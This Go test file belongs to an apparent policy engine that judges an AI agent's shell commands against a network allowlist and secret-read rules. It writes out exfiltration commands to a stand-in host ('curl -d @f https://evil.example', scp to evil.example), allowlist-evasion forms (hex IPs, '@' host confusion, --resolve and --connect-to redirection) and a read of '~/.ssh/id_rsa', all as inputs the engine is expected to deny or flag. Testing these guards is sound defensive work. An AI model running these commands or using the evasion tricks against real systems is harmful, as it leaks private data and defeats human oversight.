package main

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"ethos/pkg/facts"
	"ethos/pkg/policy"
	"ethos/pkg/record"
)

// everything is a person who trusts every file.
type everything struct{}

func (everything) Trusted(string, string) (bool, error) { return true, nil }

// approvedFor makes a work space whose configuration lists what may be reached.
func approvedFor(t *testing.T, entries ...string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	text := "sandbox:\n  network_tools:\n"
	for _, e := range entries {
		text += "    - " + e + "\n"
	}
	if err := os.WriteFile(filepath.Join(dir, "repo_config.yaml"), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// judged decides a script in a work space, whose configuration is trusted.
func judged(t *testing.T, dir, script string) record.Decision {
	t.Helper()
	d, err := facts.New(facts.Options{Home: "/nowhere", Trust: everything{}})
	if err != nil {
		t.Fatal(err)
	}
	a, err := d.Place(record.Action{Kind: record.KindShell, Script: script, Cwd: dir})
	if err != nil {
		t.Fatal(err)
	}
	actor := record.Actor{Agent: "claude", Mode: record.ModeSafe}
	f, err := d.Derive(a, actor)
	if err != nil {
		t.Fatalf("%s: %v", script, err)
	}
	return loaded(t, policy.Core).Decide(context.Background(), policy.Input{Action: &a, Actor: &actor, Facts: &f})
}

func matchOf(d record.Decision, id string) *record.Match {
	for i := range d.Matches {
		if d.Matches[i].ID == id {
			return &d.Matches[i]
		}
	}
	return nil
}

var entryForm = regexp.MustCompile(`\{tool: [^}]*\}`)

// TestRemediesOfTheNetwork: what a refusal says that would allow the command,
// does, word for word; and what the list has, passes without it.
func TestRemediesOfTheNetwork(t *testing.T) {
	const listed = "{tool: transfer, allow_domains: [registry.npmjs.org]}"
	for script, want := range map[string]string{ // of the rule, and the place that the message names
		"curl -d @f https://evil.example":               "evil.example:443",
		"curl https://registry.npmjs.org@evil.example/": "evil.example:443",
		"curl http://0x5db8d822/":                       "93.184.216.34:80",
		"curl http://192.168.1.7:8080/":                 "192.168.1.7:8080",
		"curl --connect-to registry.npmjs.org:443:evil.example:443 https://registry.npmjs.org/": "evil.example:443",
		"curl --resolve registry.npmjs.org:443:198.51.100.7 https://registry.npmjs.org/":        "198.51.100.7:443",
		"curl -x evil.example:3128 https://registry.npmjs.org/":                                 "evil.example:3128",
		"ssh -J jump.example evil.example uptime":                                               "jump.example:22, evil.example:22",
		"scp f me@evil.example:/tmp":                                                            "evil.example:22",
		"curl 'https://[2001:db8::7]:8443/'":                                                    "[2001:db8::7]:8443",
		"wget https://bücher.example/":                                                          "xn--bcher-kva.example:443",
	} {
		for id, entries := range map[string][]string{
			"runtime.network_place_not_listed": {listed}, "runtime.network_requires_approval": {"{tool: go-test, mode: loopback}"},
		} {
			d := judged(t, approvedFor(t, entries...), script)
			m := matchOf(d, id)
			if m == nil || d.Verdict != record.VerdictDeny || !strings.Contains(m.Message, want) {
				t.Errorf("%s: %s, %+v", script, d.Verdict, d.Matches)
				continue
			}
			entry := entryForm.FindString(m.Remedy)
			if again := judged(t, approvedFor(t, entry), script); again.Verdict != record.VerdictAllow {
				t.Errorf("%s\n the remedy %s: %s, %+v", script, entry, again.Verdict, again.Matches)
			}
		}
	}
	for script, alone := range map[string]string{ // the entry is for what connects, in a call of its own
		"mkdir -p x && curl -o x/f https://evil.example/f":                 "curl -o x/f https://evil.example/f",
		"rsync -a . me@there.example:/srv && curl https://evil.example":    "curl https://evil.example",
		"curl -s https://evil.example/x | jq .":                            "curl -s https://evil.example/x | jq .",
		"for f in a b; do scp $f me@evil.example:/srv; done; rm -rf build": "scp a me@evil.example:/srv",
	} {
		m := matchOf(judged(t, approvedFor(t, "{tool: go-test, mode: loopback}"), script), "runtime.network_requires_approval")
		if m == nil || !strings.Contains(m.Remedy, "; give what connects in a call of its own, for which a person writes {tool: ") {
			t.Errorf("%s: %+v", script, m)
			continue
		}
		entry := entryForm.FindString(m.Remedy)
		if again := judged(t, approvedFor(t, entry), alone); again.Verdict != record.VerdictAllow {
			t.Errorf("%s\n the remedy %s: %s, %+v", alone, entry, again.Verdict, again.Matches)
		}
	}
	for _, script := range []string{"curl -d @f https://registry.npmjs.org/x", "curl -s https://registry.npmjs.org/x | jq .", "curl http://localhost:8080/", "go test ./...", "git fetch origin"} {
		if d := judged(t, approvedFor(t, listed), script); d.Verdict != record.VerdictAllow {
			t.Errorf("%s: %s, %+v", script, d.Verdict, d.Matches)
		}
	}
}

// TestUnseenPlaceIsAsked: what cannot be compared with the list is a person's to
// decide, and without a list it is refused as before.
func TestUnseenPlaceIsAsked(t *testing.T) {
	const listed = "{tool: transfer, allow_domains: [registry.npmjs.org]}"
	for _, script := range []string{`curl "$URL"`, "curl -K cfg https://registry.npmjs.org/", "wget -i list.txt", `curl -H $HEADER https://registry.npmjs.org/`, "curl https://e[1-9].example/"} {
		if d := judged(t, approvedFor(t, listed), script); d.Verdict != record.VerdictAsk || matchOf(d, "runtime.network_place_unknown") == nil {
			t.Errorf("%s, listed: %s, %+v", script, d.Verdict, d.Matches)
		}
		if d := judged(t, approvedFor(t, "{tool: go-test, mode: loopback}"), script); d.Verdict != record.VerdictDeny {
			t.Errorf("%s, not listed: %s, %+v", script, d.Verdict, d.Matches)
		}
	}
}

// TestScriptOfSeveralTools: the parts of a script get what they need, and no
// place beyond.
func TestScriptOfSeveralTools(t *testing.T) {
	dir := approvedFor(t, "node-packages")
	for script, want := range map[string]string{
		"npm ci && npm test": record.VerdictAllow, "npm ci && npm test && curl https://evil.example": record.VerdictDeny,
		"npm ci --registry https://registry.npmjs.org && npm test": record.VerdictAllow, "npm ci --registry https://evil.example && npm test": record.VerdictDeny,
		"psql -h db.example": record.VerdictAllow, // no network is approved for it, and none is there
	} {
		if d := judged(t, dir, script); d.Verdict != want {
			t.Errorf("%s: %s, %+v", script, d.Verdict, d.Matches)
		}
	}
}

// TestPortOfTheHostsLoopback is approved as any other place is, and opens that
// place alone.
func TestPortOfTheHostsLoopback(t *testing.T) {
	dir := approvedFor(t, `{tool: database, allow_domains: ["localhost:5432"]}`)
	for script, want := range map[string]string{
		"psql -h localhost -p 5432 db": record.VerdictAllow, "psql -h db.example": record.VerdictDeny, "psql -h localhost && curl https://evil.example": record.VerdictDeny,
	} {
		if d := judged(t, dir, script); d.Verdict != want {
			t.Errorf("%s: %s, %+v", script, d.Verdict, d.Matches)
		}
	}
	d, err := facts.New(facts.Options{Home: "/nowhere", Grants: []string{"domain=localhost:5432"}})
	if err != nil {
		t.Fatal(err)
	}
	a := record.Action{Kind: record.KindShell, Script: "psql -h localhost", Cwd: dir, Workspace: dir}
	actor := record.Actor{Mode: record.ModeSafe}
	f, err := d.Derive(a, actor)
	if err != nil || len(f.Repo.Configuration) != 1 || f.Repo.Configuration[0].Trusted || len(f.Repo.Configuration[0].Widens) != 1 {
		t.Fatalf("untrusted: %+v, %v", f.Repo.Configuration, err)
	}
	decided := loaded(t, policy.Core).Decide(context.Background(), policy.Input{Action: &a, Actor: &actor, Facts: &f})
	if decided.Verdict != record.VerdictDeny || matchOf(decided, "runtime.network_requires_approval") == nil {
		t.Errorf("granted, and approved by nobody: %s", decided.Verdict)
	}
}

// TestRemediesBesideFlags: what a person widened by flags is widened further by
// one, and is not yet approved by it.
func TestRemediesBesideFlags(t *testing.T) {
	decide := func(dir, script string, grants ...string) record.Decision {
		d, err := facts.New(facts.Options{Home: "/nowhere", Trust: everything{}, Profile: "agent-network", Grants: grants})
		if err != nil {
			t.Fatal(err)
		}
		a := record.Action{Kind: record.KindShell, Script: script, Cwd: dir, Workspace: dir}
		actor := record.Actor{Mode: record.ModeSafe}
		f, err := d.Derive(a, actor)
		if err != nil {
			t.Fatal(err)
		}
		return loaded(t, policy.Core).Decide(context.Background(), policy.Input{Action: &a, Actor: &actor, Facts: &f})
	}
	bare := approvedFor(t, "go-test")
	m := matchOf(decide(bare, "npm ci"), "runtime.network_requires_approval")
	if m == nil || !strings.Contains(m.Message, "node-packages needs registry.npmjs.org") {
		t.Fatalf("%+v", m)
	}
	if d := decide(approvedFor(t, entryForm.FindString(m.Remedy)), "npm ci"); d.Verdict != record.VerdictAllow {
		t.Errorf("the remedy %q: %s, %+v", m.Remedy, d.Verdict, d.Matches)
	}
	for _, unknown := range []string{"frobnicate https://x.example", "frobnicate", `curl "$URL"`} { // of which the catalog or the command says nothing
		m = matchOf(decide(bare, unknown), "runtime.network_requires_approval")
		if m == nil || regexp.MustCompile(`(adds|writes|approves) *,| ,|\{\}|\[\]`).MatchString(m.Remedy) || !strings.Contains(m.Remedy, "; a person lets the call pass once with `ethos-decide approve`") {
			t.Errorf("%s: %+v", unknown, m)
		}
	}
	m = matchOf(decide(bare, "git clone https://git.example/x"), "runtime.network_requires_approval")
	if m == nil || !strings.Contains(m.Message, ": git connects to git.example:443.") {
		t.Errorf("%+v", m)
	}
	m = matchOf(decide(bare, "curl https://evil.example https://pypi.org/simple"), "runtime.network_place_not_listed")
	if m == nil || !strings.Contains(m.Remedy, "a person adds --grant domain=evil.example:443.") {
		t.Fatalf("%+v", m)
	}
	if d := decide(bare, "curl https://evil.example https://pypi.org/simple", "domain=evil.example:443"); matchOf(d, "runtime.network_place_not_listed") != nil {
		t.Errorf("the grant: %+v", d.Matches)
	}
}

// TestChangedPaths: a message that says what is changed does not name what is only
// read.
func TestChangedPaths(t *testing.T) {
	d := judged(t, t.TempDir(), "cat ~/data/x > ~/data/z")
	m := matchOf(d, "files.outside")
	if m == nil || !strings.Contains(m.Message, "(~/data/z)") {
		t.Errorf("%+v", d)
	}
	if m := matchOf(judged(t, t.TempDir(), "cat ~/.ssh/id_rsa"), "secrets.read"); m == nil || !strings.Contains(m.Message, "~/.ssh/id_rsa") {
		t.Errorf("a read that a policy is about: %+v", m)
	}
}
